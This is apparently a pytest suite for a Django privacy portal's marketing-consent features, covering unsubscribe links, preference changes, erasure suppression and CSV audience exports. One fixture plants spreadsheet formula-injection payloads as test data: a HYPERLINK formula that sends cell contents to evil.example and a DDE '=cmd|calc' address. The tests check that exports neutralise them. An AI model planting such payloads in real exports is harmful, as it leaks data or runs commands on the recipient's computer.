"""Marketing preferences through every route, the service every sender asks, the lists."""

import csv
import html
import io
from http import HTTPStatus

import pytest
from django.contrib.auth.models import User
from django.core import mail, signing
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django_tasks_db.models import DBTaskResult

from consent.marketing import MarketingPurpose
from consent.models import MarketingPreference, PreferenceChange, Registration
from consent.preferences import (
    FIELDS,
    PREFERENCES_LINK,
    UNSUBSCRIBE_LINK,
    marketing_allowed,
    preference_for,
    unsubscribe_url,
)
from privacy_portal.hashing import email_hash
from privacy_portal.models import OutgoingEmail
from privacy_portal.roles import roles_sync
from requests_app.models import DataSubjectRequest
from tests.consent.test_registration import ask_parent, register, years_ago
from tests.helpers import (
    assert_mail_inert,
    hostile_name,
    link_in_mail,
    run_stored_tasks,
    statements,
    submit_and_verify,
)

pytestmark = pytest.mark.django_db
PURPOSES = MarketingPurpose.values
ADMIN = "/admin/consent/marketingpreference/"


def registrant(
    deliver, email: str, ticked=("email",), confirm=True, browser=None, name=""
) -> Client:
    """Someone who registered (ticking `ticked`) and, unless told not to, confirmed."""
    browser = browser or Client()
    extra = {f"marketing_{purpose}": "on" for purpose in ticked}
    data = {
        "name": name or email.split("@")[0].title(),
        "email": email,
        "country": "FR",
        "date_of_birth": years_ago(30).isoformat(),
        **extra,
    }
    with deliver():
        browser.post("/register/", data)
    if confirm:
        with deliver():
            browser.post(link_in_mail(mail.outbox[-1], "/register/confirm/"))
    return browser


def actors(email: str) -> list[tuple[str, str, bool | None]]:
    preference = preference_for(email)
    return list(preference.changes.order_by("at", "id").values_list("actor", "purpose", "new"))


@pytest.fixture
def marketing_client(db):
    user = User.objects.create_user("marketer", "m@example.com", "pw", is_staff=True)
    user.groups.add(roles_sync()["Marketing"])
    client = Client()
    client.force_login(user)
    client.user = user
    return client


def test_registration_choices_land_in_the_preferences(demo_policy, deliver):
    registrant(deliver, "ann@example.org", ticked=("email", "research"))

    preference = preference_for("ann@example.org")
    assert (preference.allow_email, preference.allow_research, preference.allow_phone) == (
        True,
        True,
        None,
    )
    assert actors("ann@example.org") == [
        ("registration", "email", True),
        ("registration", "research", True),
    ]
    assert marketing_allowed("ann@example.org", "email")
    assert not marketing_allowed("ann@example.org", "phone")  # never chosen: opt-in default


def test_mail_to_a_registrant_carries_one_click_unsubscribe(demo_policy, deliver):
    with deliver():
        Client().post(
            "/register/",
            {
                "name": "Ann",
                "email": "ann@example.org",
                "country": "FR",
                "date_of_birth": years_ago(30).isoformat(),
            },
        )

    message = mail.outbox[-1]
    assert message.extra_headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert message.extra_headers["List-Unsubscribe"].startswith("<http")
    assert "/unsubscribe/" in message.extra_headers["List-Unsubscribe"]


def test_the_link_request_answers_the_same_for_known_and_unknown(demo_policy, deliver):
    registrant(deliver, "ann@example.org")
    sent = len(mail.outbox)

    with deliver():
        known = Client().post("/preferences/", {"email": "ann@example.org"})
        unknown = Client().post("/preferences/", {"email": "nobody@example.org"})

    assert (known.status_code, known.headers["Location"]) == (
        unknown.status_code,
        unknown.headers["Location"],
    )
    assert len(mail.outbox) == sent + 1
    assert mail.outbox[-1].to == ["ann@example.org"]
    assert "List-Unsubscribe" in mail.outbox[-1].extra_headers


def test_the_person_changes_every_preference_in_the_centre(demo_policy, deliver):
    registrant(deliver, "ann@example.org")
    with deliver():
        Client().post("/preferences/", {"email": "ann@example.org"})
    centre = link_in_mail(mail.outbox[-1], "/preferences/")
    browser = Client()

    page = html.unescape(browser.get(centre).content.decode())
    for purpose in MarketingPurpose:
        assert str(purpose.label) in page
    assert "Invitations to online surveys" in page  # what each one means
    browser.post(centre, {"phone": "on", "partners": "on"})

    preference = preference_for("ann@example.org")
    assert (preference.allow_email, preference.allow_phone, preference.allow_partners) == (
        False,
        True,
        True,
    )
    person = [a for a in actors("ann@example.org") if a[0] == "person"]
    assert sorted(person) == [
        ("person", "affiliates", False),
        ("person", "email", False),
        ("person", "partners", True),
        ("person", "phone", True),
        ("person", "research", False),
    ]
    assert not marketing_allowed("ann@example.org", "email")


def test_one_click_unsubscribe_works_without_a_csrf_token(demo_policy, deliver):
    registrant(deliver, "ann@example.org")
    url = unsubscribe_url(preference_for("ann@example.org"), "email")
    path = "/" + url.split("://", 1)[1].split("/", 1)[1]
    strict = Client(enforce_csrf_checks=True)

    confirm = strict.get(path)
    assert confirm.status_code == HTTPStatus.OK
    assert preference_for("ann@example.org").allow_email is True  # a GET changes nothing
    response = strict.post(
        path, "List-Unsubscribe=One-Click", content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == HTTPStatus.OK
    assert preference_for("ann@example.org").allow_email is False
    assert actors("ann@example.org")[-1] == ("unsubscribe", "email", False)
    assert not marketing_allowed("ann@example.org", "email")


@pytest.mark.parametrize("token", ["garbage", "eyJwIjoxfQ:1xX:forged", "x" * 700])
def test_bad_preference_links_are_a_clear_4xx(client, demo_policy, token):
    assert client.get(f"/preferences/{token}/").status_code == HTTPStatus.BAD_REQUEST
    assert client.post(f"/unsubscribe/{token}/").status_code == HTTPStatus.BAD_REQUEST


@pytest.mark.parametrize("person", ["not-a-number", [1], {"pk": 1}])
def test_signed_preference_links_of_another_shape_are_a_clear_4xx(client, demo_policy, person):
    # Found by tests/test_fuzz.py: a non-integer person id in a signed payload was a 500.
    centre = signing.dumps({"p": person, "h": "x"}, salt=PREFERENCES_LINK)
    unsubscribe = signing.dumps({"p": person, "u": "email", "h": "x"}, salt=UNSUBSCRIBE_LINK)

    assert client.get(f"/preferences/{centre}/").status_code == HTTPStatus.BAD_REQUEST
    assert client.post(f"/unsubscribe/{unsubscribe}/").status_code == HTTPStatus.BAD_REQUEST


def test_marketing_staff_toggle_with_a_required_reason(demo_policy, deliver, marketing_client):
    registrant(deliver, "ann@example.org")
    preference = preference_for("ann@example.org")
    url = f"{ADMIN}{preference.pk}/change/"
    data = {"allow_email": "no", "allow_phone": "", "allow_research": "", "allow_affiliates": "",
            "allow_partners": "", "changes-TOTAL_FORMS": "0", "changes-INITIAL_FORMS": "0",
            "changes-MIN_NUM_FORMS": "0", "changes-MAX_NUM_FORMS": "1000"}  # fmt: skip

    without = marketing_client.post(url, {**data, "reason": ""})
    assert without.status_code == HTTPStatus.OK
    assert preference_for("ann@example.org").allow_email is True

    saved = marketing_client.post(url, {**data, "reason": "Asked by phone on 3 May."})

    assert saved.status_code == HTTPStatus.FOUND
    change = preference.changes.order_by("-at", "-id").first()
    assert (change.actor, change.purpose, change.old, change.new) == ("staff", "email", True, False)
    assert change.staff_user == marketing_client.user
    assert change.reason == "Asked by phone on 3 May."
    assert not marketing_allowed("ann@example.org", "email")


def test_an_objection_request_opts_out_of_everything_when_completed(
    demo_policy, deliver, dpo_client
):
    registrant(deliver, "ann@example.org", ticked=PURPOSES)
    request = submit_and_verify(Client(), deliver, email="ann@example.org", kind="objection")
    assert marketing_allowed("ann@example.org", "email")

    with deliver():
        dpo_client.post(f"/admin/requests_app/datasubjectrequest/{request.pk}/complete/", {})

    for purpose in PURPOSES:
        assert not marketing_allowed("ann@example.org", purpose)
    objections = [a for a in actors("ann@example.org") if a[0] == "objection"]
    assert len(objections) == len(PURPOSES)
    assert preference_for("ann@example.org").changes.filter(reason=request.reference).exists()


def test_gpc_from_an_identified_visitor_stops_sharing(demo_policy, deliver):
    browser = Client()
    browser.post("/consent/", {"action": "reject_all", "scope": "prompt", "next": "/"})
    registrant(deliver, "ann@example.org", ticked=PURPOSES, browser=browser)  # links consent id

    browser.post(
        "/consent/",
        {"action": "accept_all", "scope": "all", "next": "/"},
        headers={"Sec-GPC": "1"},
    )

    preference = preference_for("ann@example.org")
    assert (preference.allow_affiliates, preference.allow_partners) == (False, False)
    assert preference.allow_email is True  # GPC is about selling and sharing
    assert ("gpc", "affiliates", False) in actors("ann@example.org")
    assert not marketing_allowed("ann@example.org", "partners")


def test_gpc_in_the_preference_centre_stops_sharing(demo_policy, deliver):
    registrant(deliver, "ann@example.org", ticked=PURPOSES)
    with deliver():
        Client().post("/preferences/", {"email": "ann@example.org"})
    centre = link_in_mail(mail.outbox[-1], "/preferences/")

    page = Client().get(centre, headers={"Sec-GPC": "1"}).content.decode()

    assert "Global Privacy Control signal is honoured" in page
    assert not marketing_allowed("ann@example.org", "affiliates")
    assert marketing_allowed("ann@example.org", "email")


def test_an_erased_person_stays_suppressed_and_nothing_readable_remains(
    demo_policy, deliver, dpo_client
):
    email = "ann@example.org"
    registrant(deliver, email, ticked=PURPOSES)
    with deliver():
        Client().post("/preferences/", {"email": email})
    request = submit_and_verify(Client(), deliver, email=email, kind="erasure")

    dpo_client.post(f"/admin/requests_app/datasubjectrequest/{request.pk}/erase/")
    with deliver():
        dpo_client.post(f"/admin/requests_app/datasubjectrequest/{request.pk}/complete/", {})

    for purpose in PURPOSES:
        assert not marketing_allowed(email, purpose)
    suppressed = MarketingPreference.objects.get(email_hash=email_hash(email))
    assert (suppressed.email, suppressed.name) == ("", "")
    assert suppressed.erased_at is not None
    readable = [
        *MarketingPreference.objects.values_list("email", "name"),
        *PreferenceChange.objects.values_list("reason"),
        *Registration.objects.values_list("email", "name"),
        *OutgoingEmail.objects.values_list("to", "text", "subject"),
        *DataSubjectRequest.objects.values_list("email", "name", "details"),
    ]
    assert not any(email in str(value) or "Ann" in str(value) for row in readable for value in row)
    # Registering again does not lift the suppression.
    registrant(deliver, email, ticked=PURPOSES)
    assert not marketing_allowed(email, "email")


def _csv(content: bytes | str) -> list[dict]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def population(demo_policy, deliver, dpo_client):
    """Everyone the rules distinguish."""
    registrant(deliver, "yes@example.org", ticked=PURPOSES)
    registrant(deliver, "email-only@example.org", ticked=("email",))
    registrant(deliver, "nothing@example.org", ticked=())
    registrant(deliver, "unconfirmed@example.org", ticked=PURPOSES, confirm=False)
    out = registrant(deliver, "out@example.org", ticked=PURPOSES)
    with deliver():
        Client().post("/preferences/", {"email": "out@example.org"})
    out.post(link_in_mail(mail.outbox[-1], "/preferences/"), {"phone": "on"})
    child = Client()
    register(child, deliver, born=years_ago(10), country="DE")
    ask_parent(child, deliver, "parent@example.org")
    registrant(deliver, "erased@example.org", ticked=PURPOSES)
    request = submit_and_verify(Client(), deliver, email="erased@example.org", kind="erasure")
    dpo_client.post(f"/admin/requests_app/datasubjectrequest/{request.pk}/erase/")
    return [
        "yes@example.org",
        "email-only@example.org",
        "nothing@example.org",
        "unconfirmed@example.org",
        "out@example.org",
        "parent@example.org",
        "erased@example.org",
    ]


def test_audience_csv_holds_exactly_whom_the_service_allows(population, marketing_client):
    for purpose in MarketingPurpose:
        response = marketing_client.post(
            ADMIN, {"action": f"export_audience_{purpose.value}", "_selected_action": ["1"]}
        )
        rows = _csv(response.content)
        exported = {row["email"] for row in rows}
        allowed = {email for email in population if marketing_allowed(email, purpose.value)}
        assert exported == allowed, purpose
        for row in rows:
            assert "/unsubscribe/" in row["unsubscribe_url"]
    assert {row["email"] for row in _csv(marketing_client.post(
        ADMIN, {"action": "export_audience_email", "_selected_action": ["1"]}).content)
    } == {"yes@example.org", "email-only@example.org"}  # fmt: skip


def test_the_audience_command_matches_the_admin_export(population):
    out = io.StringIO()
    call_command("export_audience", "email", stdout=out)

    assert {row["email"] for row in _csv(out.getvalue())} == {
        "yes@example.org",
        "email-only@example.org",
    }


def test_suppression_csv_holds_exactly_the_opted_out_addresses_and_hashes(
    population, marketing_client
):
    response = marketing_client.post(
        ADMIN, {"action": "export_suppression", "_selected_action": ["1"]}
    )

    rows = _csv(response.content)
    by_hash = {row["email_hash"]: row for row in rows}
    assert set(by_hash) == {email_hash("out@example.org"), email_hash("erased@example.org")}
    assert by_hash[email_hash("out@example.org")]["email"] == "out@example.org"
    assert by_hash[email_hash("out@example.org")]["refused_purposes"] == (
        "email;research;affiliates;partners"
    )
    assert by_hash[email_hash("erased@example.org")]["email"] == ""
    assert by_hash[email_hash("erased@example.org")]["erased"] == "yes"
    command = io.StringIO()
    call_command("export_suppression_list", stdout=command)
    assert {row["email_hash"] for row in _csv(command.getvalue())} == set(by_hash)


# What registrants type, planted for whoever opens the lists in a spreadsheet: a
# full-width equals sign (read as "=" by some spreadsheets) and an address whose local
# part is a formula (every character of it is allowed in an address).
PLANTED_NAME = '\uff1dHYPERLINK("https://evil.example/?"&A1,"click")'
PLANTED_EMAIL = "=cmd|'calc'!a0@example.org"


@pytest.fixture
def planted(demo_policy, deliver):
    """Ann, in the e-mail audience under a formula for a name; a formula address that
    allows only phone calls (so it is in the suppression list and the phone audience)."""
    registrant(deliver, "ann@example.org", ticked=("email",), name=PLANTED_NAME)
    out = registrant(deliver, PLANTED_EMAIL, ticked=PURPOSES, name="-1+1")
    with deliver():
        Client().post("/preferences/", {"email": PLANTED_EMAIL})
    out.post(link_in_mail(mail.outbox[-1], "/preferences/"), {"phone": "on"})


def _planted_cells(audience_email: str, audience_phone: str, suppression: str) -> tuple:
    (ann,) = _csv(audience_email)
    (phone,) = _csv(audience_phone)
    (suppressed,) = _csv(suppression)
    return ann["name"], phone["email"], phone["name"], suppressed["email"]


PLANTED_AS_TEXT = (f"'{PLANTED_NAME}", f"'{PLANTED_EMAIL}", "'-1+1", f"'{PLANTED_EMAIL}")


def test_marketing_exports_in_the_admin_keep_planted_formulas_as_text(planted, marketing_client):
    def export(action: str) -> bytes:
        return marketing_client.post(ADMIN, {"action": action, "_selected_action": ["1"]}).content

    cells = _planted_cells(
        export("export_audience_email"),
        export("export_audience_phone"),
        export("export_suppression"),
    )

    assert cells == PLANTED_AS_TEXT


def test_marketing_export_commands_keep_planted_formulas_as_text(planted):
    def run(*args: str) -> str:
        out = io.StringIO()
        call_command(*args, stdout=out)
        return out.getvalue()

    cells = _planted_cells(
        run("export_audience", "email"),
        run("export_audience", "phone"),
        run("export_suppression_list"),
    )

    assert cells == PLANTED_AS_TEXT


def test_unticking_everything_in_the_centre_is_saved(demo_policy, deliver):
    registrant(deliver, "ann@example.org", ticked=PURPOSES)
    with deliver():
        Client().post("/preferences/", {"email": "ann@example.org"})

    Client().post(link_in_mail(mail.outbox[-1], "/preferences/"), {})  # every box unticked

    for purpose in PURPOSES:
        assert not marketing_allowed("ann@example.org", purpose)


def test_staff_cannot_opt_an_erased_person_back_in(
    demo_policy, deliver, dpo_client, marketing_client
):
    registrant(deliver, "ann@example.org", ticked=PURPOSES)
    request = submit_and_verify(Client(), deliver, email="ann@example.org", kind="erasure")
    dpo_client.post(f"/admin/requests_app/datasubjectrequest/{request.pk}/erase/")
    erased = MarketingPreference.objects.get(email_hash=email_hash("ann@example.org"))

    response = marketing_client.post(
        f"{ADMIN}{erased.pk}/change/",
        {
            "allow_email": "yes",
            "reason": "Asked again",
            "changes-TOTAL_FORMS": "0",
            "changes-INITIAL_FORMS": "0",
            "changes-MIN_NUM_FORMS": "0",
            "changes-MAX_NUM_FORMS": "1000",
        },
    )

    assert response.status_code == HTTPStatus.OK
    assert "they stay on the suppression list" in response.content.decode()
    assert not marketing_allowed("ann@example.org", "email")


def test_every_mail_to_a_registrant_carries_one_click_unsubscribe(demo_policy, deliver):
    registrant(deliver, "ann@example.org")
    submit_and_verify(Client(), deliver, email="ann@example.org", kind="access")
    submit_and_verify(Client(), deliver, email="stranger@example.org", kind="access")

    to_ann = [m for m in mail.outbox if m.to == ["ann@example.org"]]
    to_stranger = [m for m in mail.outbox if m.to == ["stranger@example.org"]]
    assert len(to_ann) >= 3  # confirmation, request verification, acknowledgement
    assert all("List-Unsubscribe" in m.extra_headers for m in to_ann)
    assert not any("List-Unsubscribe" in m.extra_headers for m in to_stranger)


def test_the_preferences_link_mail_links_only_the_centre(demo_policy, deliver):
    browser = Client()
    with deliver():
        browser.post(
            "/register/",
            {
                "name": hostile_name(),
                "email": "ann@example.org",
                "country": "FR",
                "date_of_birth": years_ago(30).isoformat(),
            },
        )
    with deliver():
        browser.post(link_in_mail(mail.outbox[-1], "/register/confirm/"))

    with deliver():
        Client().post("/preferences/", {"email": "ann@example.org"})

    assert MarketingPreference.objects.get().name == hostile_name()
    assert_mail_inert(
        mail.outbox[-1], typed=None, subject="Your marketing preferences", links=["/preferences/"]
    )


def test_an_unconfirmed_sign_up_changes_nothing_a_confirmed_registrant_holds(
    demo_policy, deliver, marketing_client
):
    # Issue 13, finding 3: posting /register/ with a subscriber's address renamed them.
    registrant(deliver, "ann@example.org", ticked=("email", "research"))
    preference = preference_for("ann@example.org")
    before = MarketingPreference.objects.filter(pk=preference.pk).values().get()
    history = list(preference.changes.values())
    registration = Registration.objects.values().get()

    with deliver():
        response = Client(headers={"Accept-Language": "de"}).post(
            "/register/",
            {
                "name": "Mallory",
                "email": "ann@example.org",
                "country": "DE",
                "date_of_birth": years_ago(30).isoformat(),
                "marketing_phone": "on",
                "marketing_partners": "on",
            },
        )

    assert response.status_code == HTTPStatus.SEE_OTHER
    assert MarketingPreference.objects.filter(pk=preference.pk).values().get() == before
    assert list(preference.changes.values()) == history
    assert Registration.objects.filter(pk=registration["id"]).values().get() == registration
    for page in (f"{ADMIN}{preference.pk}/change/", f"{ADMIN}?q=ann%40example.org"):
        shown = marketing_client.get(page).content.decode()
        assert "Ann" in shown
        assert "Mallory" not in shown
    assert not marketing_allowed("ann@example.org", "phone")

    # The owner of the address confirms the new registration: now it counts.
    with deliver():
        Client().post(link_in_mail(mail.outbox[-1], "/register/confirm/"))

    preference.refresh_from_db()
    assert (preference.name, preference.language) == ("Mallory", "de")
    assert (preference.allow_email, preference.allow_research) == (True, True)  # unticked, opt-in
    assert (preference.allow_phone, preference.allow_partners) == (True, True)
    assert actors("ann@example.org")[len(history) :] == [
        ("registration", "phone", True),
        ("registration", "partners", True),
    ]


def test_an_unconfirmed_sign_up_leaves_a_marketing_record_with_no_name_or_choice(
    demo_policy, deliver
):
    with deliver():
        Client().post(
            "/register/",
            {
                "name": "Ann",
                "email": "ann@example.org",
                "country": "FR",
                "date_of_birth": years_ago(30).isoformat(),
                "marketing_email": "on",
            },
        )

    preference = preference_for("ann@example.org")
    assert (preference.name, preference.language) == ("", "en")
    assert [getattr(preference, field) for field in FIELDS.values()] == [None] * len(FIELDS)
    assert not preference.changes.exists()
    # The confirmation mail still offers a one-click unsubscribe for that record.
    assert "/unsubscribe/" in mail.outbox[-1].extra_headers["List-Unsubscribe"]


def test_the_link_request_does_the_same_work_for_known_and_unknown_addresses(
    demo_policy, deliver, settings, django_capture_on_commit_callbacks
):
    # Issue 13, finding 11: a known address was answered after rendering and storing its
    # mail, an unknown one at once; the time told them apart.
    registrant(deliver, "ann@example.org")
    sent, queued = len(mail.outbox), OutgoingEmail.objects.count()
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}  # production
    work = {}
    for address in ("ann@example.org", "nobody@example.org"):
        with (
            CaptureQueriesContext(connection) as queries,
            django_capture_on_commit_callbacks(execute=True),
        ):
            response = Client().post("/preferences/", {"email": address})
        assert response.headers["Location"] == "/preferences/sent/"
        work[address] = statements(queries)

    assert work["ann@example.org"] == work["nobody@example.org"]
    assert (len(mail.outbox), OutgoingEmail.objects.count()) == (sent, queued)  # nothing rendered
    assert "INSERT" in " ".join(work["nobody@example.org"])  # one task each, known or not
    tasks = list(DBTaskResult.objects.values_list("args_kwargs", flat=True))
    assert len(tasks) == 2
    assert "example.org" not in str(tasks)  # the queue holds keyed hashes, not addresses

    for _ in range(2):  # the worker runs the look-ups, then delivers what they queued
        with django_capture_on_commit_callbacks(execute=True):
            run_stored_tasks()

    assert [message.to for message in mail.outbox[sent:]] == [["ann@example.org"]]
    assert "/preferences/" in mail.outbox[-1].body
